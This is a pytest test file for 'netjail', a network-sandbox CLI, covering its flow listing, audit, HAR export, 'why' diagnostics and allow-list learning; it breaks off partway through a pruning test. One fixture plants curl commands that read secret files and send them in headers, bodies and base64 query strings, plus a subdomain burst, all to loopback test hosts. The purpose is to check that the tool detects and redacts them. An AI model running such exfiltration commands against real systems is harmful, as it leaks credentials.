"""`netjail flows / runs / audit / why / learn / export` on runs made by the real netjail against loopback origins.

The runs are made once per module (each scenario is one netjail run) and read by many tests. Every negative has a
harmless control: a filter that must drop a flow has one it must keep, a flagged upload has a clean one beside it,
a blocked pip has the same pip succeeding once `why`'s fix is applied, a learned allow list denies a fourth host
while the same command succeeds.
"""

from __future__ import annotations

import base64
import hashlib
import html.parser
import io
import json
import os
import secrets as pysecrets
import shutil
import ssl
import subprocess
import sys
import threading
import zipfile
import zlib
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import trustme

from tests.support.netjail import TEST_NAMES, Netjail, Result, netjail_executable
from tests.support.servers import Origin

CURL = "curl -sS --max-time 20"
nonroot = pytest.mark.nonroot
TUNNEL_NAMES = tuple(f"{hashlib.sha256(bytes([i])).hexdigest()[:24]}.tunnel.test" for i in range(6))
PIP_NAMES = ("index.test", "files.test")


def pinned(*extra: str) -> dict[str, str]:
    return {name: "127.0.0.1" for name in (*TEST_NAMES, *extra)}


@dataclass
class Cli:
    returncode: int
    stdout: str
    stderr: str

    def json(self) -> Any:
        return json.loads(self.stdout)

    def lines(self) -> list[dict]:
        return [json.loads(line) for line in self.stdout.splitlines()]


def cli(nj: Netjail, *args: str, env: dict[str, str] | None = None, expect: int | None = 0) -> Cli:
    proc = subprocess.run(
        [netjail_executable(), *args],
        cwd=nj.work,
        env=env or nj.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    result = Cli(proc.returncode, proc.stdout, proc.stderr)
    if expect is not None:
        assert proc.returncode == expect, (
            f"netjail {' '.join(args)}: exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
        )
    return result


@pytest.fixture(scope="module")
def nj(tmp_path_factory: pytest.TempPathFactory, test_ca: tuple[trustme.CA, Path]) -> Netjail:
    return Netjail(tmp_path_factory.mktemp("flows-cli"), test_ca[1])


def closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# ---------------------------------------------------------------------------------------------------------
# Scenario 1: a mixed run (allowed, denied by rule, not allowed, HTTP error, upload, upstream failure)
# ---------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def mixed(nj: Netjail, http_origin: Origin, https_origin: Origin) -> Result:
    p, sp = http_origin.port, https_origin.port
    (nj.work / "payload.txt").write_text("x" * 5000)
    cfg = nj.settings({"allowedDomains": ["allowed.test"], "deniedDomains": ["denied.test"]})
    result = nj.run(
        "-s", str(cfg), "-c",
        "; ".join([
            f"{CURL} -o /dev/null https://allowed.test:{sp}/hello",
            f"{CURL} -o /dev/null http://allowed.test:{p}/status/404",
            f"{CURL} -o /dev/null http://denied.test:{p}/nope",
            f"{CURL} -o /dev/null https://other.test:{sp}/x",
            f"{CURL} -o /dev/null -H 'Authorization: Bearer s3cret-token' -H 'Cookie: sid=c00kie-value' "
            f"--data-binary @payload.txt https://allowed.test:{sp}/upload",
            f"{CURL} -o /dev/null http://allowed.test:{closed_port()}/down",
            "true",
        ]),
    )  # fmt: skip
    assert result.returncode == 0, result.explain()
    assert len(result.flows) == 6, result.explain() + json.dumps(result.flows, indent=1)
    return result


def _key(record: dict) -> tuple[str, str, str]:
    return record["method"], record["host"], record["path"]


@nonroot
def test_flows_table_is_plain_text_when_piped(nj: Netjail, mixed: Result) -> None:
    out = cli(nj, "flows", mixed.run_dir.name).stdout
    lines = out.splitlines()
    assert lines[0].split() == [
        "time",
        "(UTC)",
        "verdict",
        "method",
        "host",
        "path",
        "status",
        "out",
        "in",
        "reason",
    ]
    rows = [line.split() for line in lines[1:]]
    assert len(rows) == 6 and "\x1b" not in out
    assert [r[1] for r in rows] == ["allow", "allow", "deny", "deny", "allow", "allow"]
    assert rows[0][2:6] == ["GET", f"allowed.test:{mixed.flows[0]['port']}", "/hello", "200"]
    assert rows[3][2] == "CONNECT" and rows[3][4] == "(tunnel)" and rows[3][-1] == "not_allowed"
    assert rows[4][2] == "POST" and rows[4][6] == "5000"  # bytes out, raw number when piped
    assert rows[5][-2:] == ["upstream_error", "(refused)"]


@nonroot
def test_flows_json_lines_are_the_records(nj: Netjail, mixed: Result) -> None:
    assert cli(nj, "flows", "--json", mixed.run_dir.name).lines() == mixed.flows


FILTERS = [
    (["--host", "allowed.test"], lambda r: r["host"] == "allowed.test"),
    (["--host", "*.test", "--denied"], lambda r: r["verdict"] == "deny"),
    (["--host", "other.test"], lambda r: r["host"] == "other.test"),
    (["--denied"], lambda r: r["verdict"] == "deny"),
    (["--allowed"], lambda r: r["verdict"] == "allow"),
    (["--failed"], lambda r: r["path"] in ("/status/404", "/down")),  # not the denials' 403
    (["--method", "post"], lambda r: r["method"] == "POST"),
    (["--method", "CONNECT", "--method", "GET"], lambda r: r["method"] in ("CONNECT", "GET")),
    (["--min-bytes-out", "4k"], lambda r: r["path"] == "/upload"),
    (["--min-bytes-out", "6k"], lambda r: False),  # control: the 5000-byte upload is below it
    (["--allowed", "--failed", "--host", "allowed.test"], lambda r: r["path"] in ("/status/404", "/down")),
]


@nonroot
@pytest.mark.parametrize(("args", "expected"), FILTERS, ids=[" ".join(a) for a, _ in FILTERS])
def test_each_filter(nj: Netjail, mixed: Result, args: list[str], expected: Any) -> None:
    want = [_key(r) for r in mixed.flows if expected(r)]
    got = [_key(r) for r in cli(nj, "flows", mixed.run_dir.name, "--json", *args).lines()]
    assert got == want
    assert 0 < len(want) < 6 or args == ["--min-bytes-out", "6k"]  # every filter both keeps and drops
    plain = cli(nj, "flows", mixed.run_dir.name, *args)
    assert len(plain.stdout.splitlines()) == (len(want) + 1 if want else 0)


@nonroot
def test_run_argument_id_prefix_path_latest(nj: Netjail, mixed: Result) -> None:
    run_id = mixed.run_dir.name
    by_id = cli(nj, "flows", "--json", run_id).stdout
    assert cli(nj, "flows", "--json", run_id[:20]).stdout == by_id
    assert cli(nj, "flows", "--json", str(mixed.run_dir)).stdout == by_id
    assert cli(nj, "flows", "--json", str(mixed.run_dir / "flows.jsonl")).stdout == by_id
    latest = nj.latest_run()
    assert cli(nj, "flows", "--json").stdout == cli(nj, "flows", "--json", latest.name).stdout
    missing = cli(nj, "flows", "1999", expect=1)
    assert "no run id starts with '1999'" in missing.stderr and "netjail runs" in missing.stderr


@nonroot
def test_runs_lists_id_start_command_exit_and_counts(nj: Netjail, mixed: Result) -> None:
    listed = {r["run_id"]: r for r in cli(nj, "runs", "--json").lines()}
    mine = listed[mixed.run_dir.name]
    end = mixed.records[-1]
    assert mine["counts"] == end["counts"] and mine["exit_status"] == 0 and mine["command"].startswith("curl")
    assert mine["start"] == mixed.records[0]["ts"]
    plain = cli(nj, "runs").stdout
    row = next(line for line in plain.splitlines() if line.startswith(mixed.run_dir.name))
    assert " curl " in f" {row} " and f"{end['counts']['flows']}" in row.split()


HAR_ENTRY_KEYS = {"startedDateTime", "time", "request", "response", "cache", "timings"}
HAR_REQUEST_KEYS = {
    "method",
    "url",
    "httpVersion",
    "cookies",
    "headers",
    "queryString",
    "headersSize",
    "bodySize",
}
HAR_RESPONSE_KEYS = {
    "status",
    "statusText",
    "httpVersion",
    "cookies",
    "headers",
    "content",
    "redirectURL",
    "headersSize",
    "bodySize",
}


def check_har_shape(har: dict) -> None:
    """The required members of HAR 1.2 (http://www.softwareishard.com/blog/har-12-spec/) and their types."""
    log = har["log"]
    assert log["version"] == "1.2"
    assert isinstance(log["creator"]["name"], str) and isinstance(log["creator"]["version"], str)
    assert isinstance(log["entries"], list)
    for entry in log["entries"]:
        assert entry.keys() >= HAR_ENTRY_KEYS
        assert (
            "T" in entry["startedDateTime"] and isinstance(entry["time"], (int, float)) and entry["time"] >= 0
        )
        request, response = entry["request"], entry["response"]
        assert request.keys() >= HAR_REQUEST_KEYS and response.keys() >= HAR_RESPONSE_KEYS
        assert isinstance(request["method"], str) and request["url"].startswith(("http://", "https://"))
        for part in (request, response):
            assert all({"name", "value"} <= h.keys() for h in part["headers"])
            assert all({"name", "value"} <= c.keys() for c in part["cookies"])
            assert isinstance(part["headersSize"], int) and isinstance(part["bodySize"], int)
        assert all({"name", "value"} <= q.keys() for q in request["queryString"])
        if "postData" in request:
            assert "mimeType" in request["postData"]
        assert isinstance(response["status"], int) and {"size", "mimeType"} <= response["content"].keys()
        assert all(
            isinstance(entry["timings"][k], (int, float)) and entry["timings"][k] >= 0
            for k in ("send", "wait", "receive")
        )


@nonroot
def test_export_har_validates_loads_in_mitmproxy_and_keeps_credentials_redacted(
    nj: Netjail, mixed: Result
) -> None:
    from mitmproxy import io as mio

    har_path = nj.tmp_path / "mixed.har"
    done = cli(nj, "export", mixed.run_dir.name, "--har", str(har_path), "--json").json()
    text = har_path.read_text()
    har = json.loads(text)
    check_har_shape(har)
    entries = har["log"]["entries"]
    assert done["entries"] == len(entries) == 6
    by_id = {r["id"]: r for r in mixed.flows}
    for entry in entries:
        record = by_id[entry["_netjail"]["id"]]
        assert (entry["_netjail"]["verdict"], entry["_netjail"]["reason"]) == (
            record["verdict"],
            record["reason"],
        )
        assert entry["request"]["method"] == record["method"]
    upload = next(e for e in entries if e["request"]["url"].endswith("/upload"))
    assert upload["response"]["status"] == 200 and upload["request"]["bodySize"] == 5000
    assert "s3cret-token" not in text and "c00kie-value" not in text
    assert sorted(upload["_netjail"]["redacted"]) == ["authorization", "cookie"]
    auth = next(h["value"] for h in upload["request"]["headers"] if h["name"].lower() == "authorization")
    assert auth.startswith("[redacted sha256:")
    with har_path.open("rb") as f:  # mitmproxy's own reader takes the HAR back
        flows = list(mio.FlowReader(f).stream())
    assert [(fl.request.method, fl.request.host) for fl in flows] == [
        (r["method"], r["host"]) for r in mixed.flows
    ]
    with (mixed.run_dir / "flows.mitm").open("rb") as f:  # and the run's own flow file, as mitmweb -r would
        stored = list(mio.FlowReader(f).stream())
    assert [fl.id for fl in stored] == [r["id"] for r in mixed.flows]


@nonroot
def test_why_groups_blocked_and_failed_with_fixes(nj: Netjail, mixed: Result) -> None:
    d = cli(nj, "why", mixed.run_dir.name, "--json").json()
    blocked = {b["host"]: b for b in d["blocked"]}
    assert set(blocked) == {"denied.test", "other.test"}
    assert blocked["other.test"]["fix"]["snippet"] == {"network": {"allowedDomains": ["other.test"]}}
    assert "remove 'denied.test' from network.deniedDomains" in blocked["denied.test"]["fix"]["change"]
    assert d["fix"]["snippet"] == {"network": {"allowedDomains": ["allowed.test", "other.test"]}}
    assert d["fix"]["file"] == mixed.records[0]["settings_file"]
    (refused,) = d["failures"]
    assert (refused["kind"], refused["host"]) == ("refused", "allowed.test") and "nothing listens" in refused[
        "meaning"
    ]
    assert [(h["host"], h["status"]) for h in d["http_errors"]] == [("allowed.test", 404)]
    text = cli(nj, "why", mixed.run_dir.name).stdout
    assert (
        "Blocked by netjail (2 hosts)" in text and '{"network": {"allowedDomains": ["other.test"]}}' in text
    )
    assert "Failed upstream" in text and "404 allowed.test" in text


# ---------------------------------------------------------------------------------------------------------
# Scenario 2: planted exfiltration beside clean requests; scenario 3: a clean run
# ---------------------------------------------------------------------------------------------------------


@dataclass
class Exfil:
    result: Result
    env_secret: str
    file_secret: str
    query: str


@pytest.fixture(scope="module")
def exfil(nj: Netjail, http_origin: Origin, https_origin: Origin) -> Exfil:
    p, sp = http_origin.port, https_origin.port
    env_secret = "envtok-" + pysecrets.token_hex(10)
    file_secret = "filetok-" + pysecrets.token_hex(10)
    key_file = nj.tmp_path / "service-key.txt"  # named in the settings; outside the working directory
    key_file.write_text(file_secret + "\n")
    (nj.work / "env-token.txt").write_text(env_secret)  # what the command inside can read and leak
    (nj.work / "leak.txt").write_text(file_secret)
    query = base64.urlsafe_b64encode(pysecrets.token_bytes(48)).decode()
    cfg = nj.settings(
        {
            "allowedDomains": ["allowed.test", "*.tunnel.test"],
            "deniedDomains": ["denied.test"],
            "hosts": pinned(*TUNNEL_NAMES),
        },
        audit={"secretEnv": ["NJ_TEST_TOKEN"], "secretFiles": [str(key_file)]},
    )
    base = f"http://allowed.test:{p}"
    commands = [
        f"{CURL} -o /dev/null https://allowed.test:{sp}/hello",  # control
        f'{CURL} -o /dev/null -H \'Content-Type: application/json\' -d \'{{"name": "demo", "n": 3}}\' {base}/small',  # control
        f"head -c 1500000 /dev/urandom > big.bin && {CURL} -o /dev/null --data-binary @big.bin https://allowed.test:{sp}/upload",
        f"{CURL} -o /dev/null '{base}/q?d={query}'",
        *(f"{CURL} -o /dev/null http://{name}:{p}/" for name in TUNNEL_NAMES),
        f'{CURL} -o /dev/null -H "X-Api-Key: $(cat env-token.txt)" {base}/a',
        f"{CURL} -o /dev/null --data-binary @env-token.txt {base}/b",
        f'{CURL} -o /dev/null "{base}/c?k=$(base64 -w0 < leak.txt)"',
        f'{CURL} -o /dev/null -H "X-Echo: $(cat leak.txt)" {base}/headers',
        f'{CURL} -o /dev/null "http://denied.test:{p}/?t=$(cat env-token.txt)"',
        "true",
    ]
    result = nj.run("-s", str(cfg), "-c", "; ".join(commands), env={**nj.env, "NJ_TEST_TOKEN": env_secret})
    assert result.returncode == 0, result.explain()
    assert len(result.flows) == len(commands) - 1, result.explain()
    return Exfil(result, env_secret, file_secret, query)


@pytest.fixture(scope="module")
def clean(nj: Netjail, http_origin: Origin, https_origin: Origin) -> Result:
    p, sp = http_origin.port, https_origin.port
    cfg = nj.settings({"allowedDomains": ["allowed.test", "a.example.test"]})
    result = nj.run(
        "-s", str(cfg), "-c",
        f"{CURL} -o /dev/null https://allowed.test:{sp}/hello; {CURL} -o /dev/null http://allowed.test:{p}/bytes/20000; "
        f"{CURL} -o /dev/null -d 'name=demo&version=1.0' https://a.example.test:{sp}/form; "
        f"{CURL} -o /dev/null http://allowed.test:{p}/status/404; {CURL} -o /dev/null 'https://allowed.test:{sp}/search?q=netjail+flows&page=2'",
    )  # fmt: skip
    assert result.returncode == 0 and len(result.flows) == 5, result.explain()
    return result


def leaks(text: str | bytes, *values: str) -> list[str]:
    """Which of the values appear in clear, hex or base64 in the text."""
    data = text.encode() if isinstance(text, str) else text
    found = []
    for value in values:
        raw = value.encode()
        forms = [
            raw,
            raw.hex().encode(),
            base64.b64encode(raw).rstrip(b"="),
            base64.urlsafe_b64encode(raw).rstrip(b"="),
        ]
        if any(form in data for form in forms):
            found.append(value)
    return found


def _flagged(report: dict) -> dict[str, set[str]]:
    return {
        f["path"].split("?")[0] or f["host"]: {fl["kind"] for fl in f["flags"]} for f in report["flagged"]
    }


@nonroot
def test_audit_flags_each_planted_exfiltration_and_not_the_controls(nj: Netjail, exfil: Exfil) -> None:
    report = cli(nj, "audit", exfil.result.run_dir.name, "--json").json()
    flagged = _flagged(report)
    assert {"large_upload", "high_entropy_body"} <= flagged["/upload"]
    assert flagged["/q"] == {"encoded_url"}
    assert flagged["/a"] == {"secret"} and flagged["/b"] == {"secret"} and "secret" in flagged["/c"]
    assert "secret" in flagged["/"]  # the denied request to denied.test carried it in its query
    assert "/hello" not in flagged and "/small" not in flagged  # the controls
    details = {fl["detail"] for f in report["flagged"] for fl in f["flags"] if fl["kind"] == "secret"}
    assert any("env:NJ_TEST_TOKEN" in d and "header" in d for d in details)
    assert any("env:NJ_TEST_TOKEN" in d and "body" in d for d in details)
    assert any("service-key.txt" in d and "URL (base64)" in d for d in details)
    (burst,) = report["findings"]
    assert (
        burst["kind"] == "subdomain_burst"
        and burst["domain"] == "tunnel.test"
        and burst["names"] == len(TUNNEL_NAMES)
    )
    hosts = {h["host"]: h for h in report["hosts"]}
    assert hosts["allowed.test"]["bytes_out"] >= 1_500_000 and hosts["denied.test"]["denied"] == 1
    assert report["secrets_checked"] == ["env:NJ_TEST_TOKEN", f"file:{nj.tmp_path / 'service-key.txt'}"]
    text = cli(nj, "audit", exfil.result.run_dir.name).stdout
    for kind in ("large_upload", "high_entropy_body", "encoded_url", "secret", "subdomain_burst"):
        assert kind in text
    # one vocabulary in the text and the HTML headline: flagged flows, and patterns across the run
    headline = f"Flagged: {report['totals']['flagged_flows']} flows ("
    assert headline in text and "1 pattern across the run (subdomain_burst)." in text
    html_path = nj.tmp_path / "vocabulary.html"
    cli(nj, "audit", exfil.result.run_dir.name, "--html", str(html_path))
    html = html_path.read_text()
    assert headline in html and "finding" not in html.lower()
    assert cli(nj, "audit", exfil.result.run_dir.name, "--check", expect=3).returncode == 3


@nonroot
def test_audit_flags_nothing_on_a_clean_run(nj: Netjail, clean: Result) -> None:
    report = cli(nj, "audit", clean.run_dir.name, "--json").json()
    assert report["flagged"] == [] and report["findings"] == [] and report["totals"]["flagged_flows"] == 0
    assert all(f["flags"] == [] for f in clean.flows)
    assert report["totals"]["requests"] == 5 and report["totals"]["bytes_in"] >= 20000
    text = cli(nj, "audit", clean.run_dir.name, "--check").stdout
    assert "Flagged: nothing" in text


@nonroot
def test_secrets_never_leave_in_records_flow_file_reports_or_exports(
    nj: Netjail, exfil: Exfil, tmp_path: Path
) -> None:
    run = exfil.result.run_dir
    values = (exfil.env_secret, exfil.file_secret)
    assert leaks((run / "flows.jsonl").read_bytes(), *values) == []
    assert (
        leaks((run / "flows.mitm").read_bytes(), *values) == []
    )  # headers, URL, request and echoed response bodies
    # the reports run without the secret in their environment: what was recorded is already clean
    outputs = {
        "flows": cli(nj, "flows", run.name).stdout,
        "flows --json": cli(nj, "flows", run.name, "--json").stdout,
        "audit": cli(nj, "audit", run.name).stdout,
        "audit --json": cli(nj, "audit", run.name, "--json", "--html", str(tmp_path / "r.html")).stdout,
        "audit --html": (tmp_path / "r.html").read_text(),
        "why": cli(nj, "why", run.name).stdout + cli(nj, "why", run.name, "--json").stdout,
        "runs": cli(nj, "runs", "--json").stdout,
    }
    cli(nj, "export", run.name, "--har", str(tmp_path / "x.har"))
    outputs["har"] = (tmp_path / "x.har").read_text()
    for name, text in outputs.items():
        assert leaks(text, *values) == [], name
    by_path = {f["path"].split("?")[0]: f for f in exfil.result.flows}
    assert "[redacted secret file:" in by_path["/c"]["path"] and by_path["/c"]["redacted_secrets"]
    denied = next(f for f in exfil.result.flows if f["host"] == "denied.test")
    assert (
        "[redacted secret env:NJ_TEST_TOKEN]" in denied["url"] and denied["verdict"] == "deny"
    )  # never sent, still clean
    assert exfil.query in by_path["/q"]["path"]  # control: high entropy that is no configured secret stays


@nonroot
def test_flows_flagged_filter(nj: Netjail, exfil: Exfil) -> None:
    flagged = cli(nj, "flows", exfil.result.run_dir.name, "--flagged", "--json").lines()
    assert [f["id"] for f in flagged] == [f["id"] for f in exfil.result.flows if f["flags"]]
    assert 0 < len(flagged) < len(exfil.result.flows)


# ---------------------------------------------------------------------------------------------------------
# The HTML report in a real browser (not nonroot: Chromium)
# ---------------------------------------------------------------------------------------------------------


class _Bars(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bars: list[dict[str, str]] = []
        self.rects: list[dict[str, str]] = []
        self.in_chart = False
        self.external: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "svg":
            self.in_chart = a.get("id") == "bytes-out-chart"
        if self.in_chart and tag == "g" and "bar" in a.get("class", "").split():
            self.bars.append(a)
        if self.in_chart and tag == "rect":
            self.rects.append(a)
        for key in ("src", "href"):
            if a.get(key, "").startswith(("http:", "https:", "//")):
                self.external.append(a[key])

    def handle_endtag(self, tag: str) -> None:
        if tag == "svg":
            self.in_chart = False


def png_is_not_blank(data: bytes) -> tuple[int, int, int]:
    """(width, height, distinct byte values in the decompressed scanlines): a blank page has almost none."""
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    pos, idat = 8, b""
    width = height = 0
    while pos < len(data):
        length = int.from_bytes(data[pos : pos + 4], "big")
        kind = data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        if kind == b"IHDR":
            width, height = int.from_bytes(body[:4], "big"), int.from_bytes(body[4:8], "big")
        elif kind == b"IDAT":
            idat += body
        pos += 12 + length
    return width, height, len(set(zlib.decompress(idat)))


def chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(chromium() is None, reason="Chromium is not installed (scripts/setup installs it)")
def test_html_report_renders_in_headless_chromium(nj: Netjail, exfil: Exfil, tmp_path: Path) -> None:
    run = exfil.result.run_dir.name
    page = tmp_path / "report.html"
    report = cli(nj, "audit", run, "--json", "--html", str(page)).json()
    args = [
        chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run", "--disable-dev-shm-usage",
        f"--user-data-dir={tmp_path / 'profile'}", "--window-size=1200,1400",
    ]  # fmt: skip
    dom = subprocess.run([*args, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=60)
    assert dom.returncode == 0 and "</svg>" in dom.stdout, dom.stderr[-2000:]
    parsed = _Bars()
    parsed.feed(dom.stdout)
    bars = {b["data-host"]: int(b["data-bytes-out"]) for b in parsed.bars}
    assert bars == {h["host"]: h["bytes_out"] for h in report["hosts"]}  # one bar per host, the right values
    widths = {b["data-host"]: float(r["width"]) for b, r in zip(parsed.bars, parsed.rects)}
    top = max(bars.values())
    for host, sent in bars.items():
        assert abs(widths[host] - max(sent / top * 560, 1 if sent else 0.5)) < 1.0, host
    assert widths["allowed.test"] == max(widths.values()) and widths["denied.test"] < 1
    assert parsed.external == []
    assert "subdomain_burst" in dom.stdout and leaks(dom.stdout, exfil.env_secret, exfil.file_secret) == []
    shot = tmp_path / "shot.png"
    subprocess.run(
        [*args, f"--screenshot={shot}", page.as_uri()], capture_output=True, timeout=60, check=True
    )
    width, height, distinct = png_is_not_blank(shot.read_bytes())
    assert (width, height) == (1200, 1400) and distinct > 20, distinct
    blank = tmp_path / "blank.png"  # control: the same measure on an empty page
    (tmp_path / "blank.html").write_text("<!doctype html><title>x</title>")
    subprocess.run(
        [*args, f"--screenshot={blank}", (tmp_path / "blank.html").as_uri()],
        capture_output=True,
        timeout=60,
        check=True,
    )
    assert png_is_not_blank(blank.read_bytes())[2] < distinct / 4


# ---------------------------------------------------------------------------------------------------------
# Scenario 4: pip blocked by the package file host; `why` names it and its fix, and the fix works
# ---------------------------------------------------------------------------------------------------------


def make_wheel(name: str = "nj_demo", version: str = "1.0") -> bytes:
    buffer = io.BytesIO()
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": b"VALUE = 1\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: netjail-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    with zipfile.ZipFile(buffer, "w") as z:
        for path, data in files.items():
            z.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
        z.writestr(f"{dist}/RECORD", "\n".join(record + [f"{dist}/RECORD,,"]) + "\n")
    return buffer.getvalue()


@dataclass
class PackageIndex:
    port: int
    wheel_name: str


@pytest.fixture(scope="module")
def package_index(test_ca: tuple[trustme.CA, Path]) -> PackageIndex:
    """A PEP 503 index on index.test whose links point at files.test (both this one loopback HTTPS server)."""
    ca, _ = test_ca
    wheel = make_wheel()
    wheel_name = "nj_demo-1.0-py3-none-any.whl"
    sha = hashlib.sha256(wheel).hexdigest()
    state: dict[str, int] = {}

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            if self.path.rstrip("/") == "/simple/nj-demo":
                link = f"https://files.test:{state['port']}/packages/{wheel_name}#sha256={sha}"
                body, kind = (
                    f'<html><body><a href="{link}">{wheel_name}</a></body></html>'.encode(),
                    "text/html",
                )
            elif self.path == f"/packages/{wheel_name}":
                body, kind = wheel, "application/octet-stream"
            else:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(*PIP_NAMES).configure_cert(context)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.socket = context.wrap_socket(server.socket, server_side=True)
    state["port"] = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield PackageIndex(state["port"], wheel_name)
    server.shutdown()


def pip_command(index: PackageIndex) -> str:
    return (
        f"PIP_CONFIG_FILE=/dev/null {sys.executable} -m pip download --no-deps --no-cache-dir --disable-pip-version-check "
        f"--retries 0 --timeout 15 -q --only-binary=:all: --index-url https://index.test:{index.port}/simple/ -d dl nj-demo"
    )


@nonroot
def test_why_names_the_package_file_host_pip_was_refused_and_its_fix_works(
    nj: Netjail, package_index: PackageIndex
) -> None:
    cfg = nj.settings({"allowedDomains": ["index.test"], "hosts": pinned(*PIP_NAMES)})
    failed = nj.run("-s", str(cfg), "-c", pip_command(package_index), timeout=120)
    assert failed.returncode != 0, failed.explain()
    assert [(f["host"], f["verdict"]) for f in failed.flows] == [
        ("index.test", "allow"),
        ("files.test", "deny"),
    ]
    text = cli(nj, "why", failed.run_dir.name).stdout
    assert "Blocked by netjail (1 host)" in text and "files.test" in text
    assert (
        "pip was connecting to files.test right after it fetched the index page of package 'nj-demo'" in text
    )
    assert f"To allow everything that was blocked, set in {cfg}:" in text
    assert '{"network": {"allowedDomains": ["index.test", "files.test"]}}' in text
    d = cli(nj, "why", failed.run_dir.name, "--json").json()
    (blocked,) = d["blocked"]
    assert blocked["host"] == "files.test" and blocked["reason"] == "not_allowed"
    assert [c["tool"] for c in d["clients"]] == ["pip"] and "the index page of package 'nj-demo'" in d[
        "clients"
    ][0]["fetched"]
    # control: apply exactly the change `why` printed, in the file it named; the same pip now succeeds
    settings = json.loads(Path(d["fix"]["file"]).read_text())
    settings["network"]["allowedDomains"] = d["fix"]["snippet"]["network"]["allowedDomains"]
    fixed_cfg = nj.tmp_path / "pip-fixed.json"
    fixed_cfg.write_text(json.dumps(settings))
    fixed = nj.run("-s", str(fixed_cfg), "-c", pip_command(package_index) + " && ls dl", timeout=120)
    assert fixed.returncode == 0 and package_index.wheel_name in fixed.stdout, fixed.explain()
    assert "Nothing was blocked" in cli(nj, "why", fixed.run_dir.name).stdout


# ---------------------------------------------------------------------------------------------------------
# Scenario 5: learn
# ---------------------------------------------------------------------------------------------------------


@nonroot
def test_learn_writes_settings_that_allow_exactly_what_was_used(nj: Netjail, http_origin: Origin) -> None:
    p = http_origin.port
    base = nj.settings({"allowedDomains": [], "deniedDomains": ["denied.test"]})
    command = (
        f"for h in allowed.test other.test example.test; do {CURL} -f -o /dev/null http://$h:{p}/ || exit 1; done; "
        f"{CURL} -o /dev/null -w 'denied=%{{http_code}}\\n' http://denied.test:{p}/"
    )
    learned_path = nj.tmp_path / "learned.json"
    proc = subprocess.run(
        [netjail_executable(), "learn", "-s", str(base), "-o", str(learned_path), "-c", command],
        cwd=nj.work, env=nj.env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "denied=403" in proc.stdout  # deniedDomains holds while learning
    run = nj.latest_run()
    records = [json.loads(line) for line in (run / "flows.jsonl").read_text().splitlines()]
    assert records[0]["network_mode"] == "audit"
    reasons = {r["host"]: r["reason"] for r in records if r["event"] == "flow"}
    assert reasons == {
        "allowed.test": "would_deny",
        "other.test": "would_deny",
        "example.test": "would_deny",
        "denied.test": "denied_by_rule",
    }
    learned = json.loads(learned_path.read_text())
    assert learned["network"]["allowedDomains"] == ["allowed.test", "example.test", "other.test"]
    assert learned["network"]["deniedDomains"] == ["denied.test"] and "mode" not in learned["network"]
    assert learned["filesystem"] == json.loads(base.read_text())["filesystem"]
    assert '+      "other.test"' in proc.stdout and "still denied (not learned): denied.test" in proc.stdout

    again = nj.run("-s", str(learned_path), "-c", command)
    assert again.returncode == 0 and "denied=403" in again.stdout, again.explain()
    assert [f["verdict"] for f in again.flows] == ["allow", "allow", "allow", "deny"]
    assert [f["rule"] for f in again.flows[:3]] == ["allowed.test", "other.test", "example.test"]

    fourth = nj.run(
        "-s",
        str(learned_path),
        "-c",
        f"for h in a.example.test allowed.test; do {CURL} -o /dev/null -w '%{{http_code}} ' http://$h:{p}/; done",
    )
    assert fourth.stdout.split() == ["403", "200"], fourth.explain()
    assert fourth.flows[0]["reason"] == "not_allowed"


# ---------------------------------------------------------------------------------------------------------
# runs --prune
# ---------------------------------------------------------------------------------------------------------


def _copy_run(source: Path, root: Path, days_ago: int, suffix: str, pad: int) -> str:
    import datetime as dt

    started = dt.datetime.now(dt.UTC) - dt.timedelta(days=days_ago)
    run_id = started.strftime("%Y%m%dT%H%M%S") + f".{started.microsecond // 1000:03d}Z-{suffix}"
    target = root / run_id
    shutil.copytree(source, target)
    lines = (target / "flows.jsonl").read_text().splitlines()
    start = json.loads(lines[0]) | {
        "ts": started.strftime("%Y-%m-%dT%H:%M:%S.") + f"{started.microsecond // 1000:03d}Z",
        "run_id": run_id,
    }
    (target / "flows.jsonl").write_text("\n".join([json.dumps(start), *lines[1:]]) + "\n")
    (target / "pad.bin").write_bytes(b"\0" * pad)
    return run_id


@nonroot
def test_runs_prune_removes_exactly_what_retention_says(nj: Netjail, clean: Result, tmp_path: Path) -> None:
    state = tmp_path / "state"
    root = state / "runs"
    root.mkdir(parents=True)
    ids = {age: _copy_run(clean.run_dir, root, age, f"age{age:03d}", 600_000) for age in (40, 20, 5, 0)}
    os.symlink(ids[0], root / "latest")
    env = {**nj.env, "NETJAIL_STATE_DIR": str(state)}

